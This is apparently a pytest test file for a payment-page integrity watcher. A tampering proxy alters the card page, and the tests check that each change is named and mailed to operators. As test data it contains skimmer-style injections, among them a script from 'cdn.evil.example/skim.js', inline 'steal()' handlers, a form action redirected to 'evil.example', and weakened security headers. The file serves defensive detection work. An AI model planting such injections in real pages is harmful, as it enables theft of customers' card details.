"""The page that takes a card, as it arrives: what somebody changed on the way, in the files or in the headers is noticed."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from threading import Thread
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from werkzeug.serving import make_server
from werkzeug.wrappers import Request, Response

from portal.core import config, db
from portal.core.audit import AuditEvent
from portal.jobs.models import JobRow
from portal.operations import alerts
from portal.payment_methods import page_watch
from portal.web import static_files
from tests.smtp import Mailbox

pytestmark = pytest.mark.database("sqlite")
Tamper = Callable[[str, Response], None]


class InFront:
    """A proxy in front of the portal, which may change what it hands on."""

    def __init__(self, app: Flask) -> None:
        self.app = app
        self.tamper: Tamper = lambda _path, _response: None

    def __call__(self, environ: Any, start_response: Any) -> Any:
        environ.pop("HTTP_ACCEPT_ENCODING", None)
        response = Response.from_app(self.app.wsgi_app, environ)
        response.direct_passthrough = False
        self.tamper(Request(environ).path, response)
        return response(environ, start_response)


@pytest.fixture
def front(app: Flask) -> Iterator[InFront]:
    front = InFront(app)
    server = make_server("127.0.0.1", 0, front, threaded=True)
    config.use(config.current().model_copy(update={"base_url": f"http://127.0.0.1:{server.server_port}"}))
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield front
    server.shutdown()
    thread.join(timeout=10)
    server.server_close()


def in_page(old: str, new: str) -> Tamper:
    def tamper(path: str, response: Response) -> None:
        if path.startswith(page_watch.PATH):
            body = response.get_data(as_text=True)
            assert old in body
            response.set_data(body.replace(old, new, 1))

    return tamper


def header(name: str, value: str | None) -> Tamper:
    def tamper(path: str, response: Response) -> None:
        if path.startswith(page_watch.PATH):
            response.headers.pop(name)
            if value is not None:
                response.headers[name] = value

    return tamper


def in_file(name: str) -> Tamper:
    def tamper(path: str, response: Response) -> None:
        if path.endswith(name):
            response.set_data(response.get_data() + b"// one more line")

    return tamper


def status(path_begins: str, number: int) -> Tamper:
    def tamper(path: str, response: Response) -> None:
        if path.startswith(path_begins):
            response.status_code = number

    return tamper


def test_the_page_as_this_release_sends_it_is_written_down_and_nobody_is_told(front: InFront) -> None:
    assert page_watch.look() == page_watch.look() == []
    with db.reading() as session:
        looks = session.scalars(select(AuditEvent).where(AuditEvent.action == page_watch.LOOKED)).all()
        assert [look.facts["differs"] for look in looks] == [[], []]
        assert session.scalars(select(JobRow.name).where(JobRow.name == "operations.mail_changed_page")).all() == []


@pytest.mark.parametrize(
    ("tamper", "named"),
    [
        (in_page("</head>", '<script src="https://cdn.evil.example/skim.js"></script></head>'), "https://cdn.evil.example/skim.js"),
        (in_page("</head>", "<script>steal()</script></head>"), "written into the page"),
        (in_page("<h1>", '<h1 onclick="steal()">'), "attribute onclick"),
        (in_page('method="post" action="', 'method="post" action="https://evil.example'), "sent to evil.example"),
        (in_page("</main>", '<iframe src="https://evil.example"></iframe></main>'), "<iframe>"),
        (in_page('integrity="sha384-', 'integrity="sha384-x'), "hash that the page gives"),
        (in_page('src="http://127.0.0.1:9/v3/"', 'src="http://127.0.0.1:9/v4/"'), "v4"),
        (header("Content-Security-Policy", "default-src *"), "Content-Security-Policy"),
        (header("Content-Security-Policy", None), "Content-Security-Policy"),
        (header("X-Content-Type-Options", None), "X-Content-Type-Options"),
        (in_file("add_method.js"), "add_method.js"),
        (in_file("feedback.js"), "feedback.js"),
        (in_file("htmx-4.0.1.min.js"), "htmx"),
        (status("/payment-methods/watched", 503), "503"),
    ],
)  # fmt: skip
def test_whatever_is_changed_on_the_way_is_named_and_mailed(
    front: InFront, smtp: Mailbox, tamper: Tamper, named: str
) -> None:
    assert page_watch.look() == []
    front.tamper = tamper
    differs = page_watch.look()
    assert any(named in one for one in differs), differs
    with db.reading() as session:
        job = session.scalars(select(JobRow).where(JobRow.name == "operations.mail_changed_page")).one()
    with front.app.app_context():
        alerts.mail_changed_page(**job.args)
    (mail,) = smtp.messages
    text = mail.get_body(("plain",))
    assert text is not None and differs[0] in text.get_content()


def test_an_element_more_in_the_same_release_is_noticed(front: InFront) -> None:
    assert page_watch.look() == []
    front.tamper = in_page("<h1>", '<p class="new">Pay here instead</p><h1>')
    assert page_watch.look() == ["elements of the page that were not there when the same release was looked at last"]


def test_who_does_not_answer_is_noticed(front: InFront) -> None:
    config.use(config.current().model_copy(update={"base_url": "http://127.0.0.1:9"}))
    assert page_watch.look() == ["the page could not be fetched: ConnectionError"]


def test_it_is_the_page_that_customers_get_and_opens_for_nobody_else(client: FlaskClient) -> None:
    page = client.get(page_watch.PATH + page_watch.token())
    assert page.status_code == 200
    assert 'id="payment-element"' in page.text
    assert client.get(page_watch.PATH + "x" * 43).status_code == 404


def test_each_script_of_ours_carries_its_hash_and_modules_are_told_before(client: FlaskClient) -> None:
    page = client.get(page_watch.PATH + page_watch.token()).text
    own = [tag for tag in re.findall("<script[^>]*>", page) if "/static/" in tag]
    assert len(own) == len(page_watch.SCRIPTS)
    assert all('integrity="sha384-' in tag for tag in own)
    told = re.findall(r'<link rel="modulepreload" href="([^"]+)" integrity="sha384-[^"]+">', page)
    assert len(told) == len(static_files.modules("js/app.js", "js/add_method.js")) >= 2
    for address in told:
        with client.get(address) as answer:
            assert answer.status_code == 200
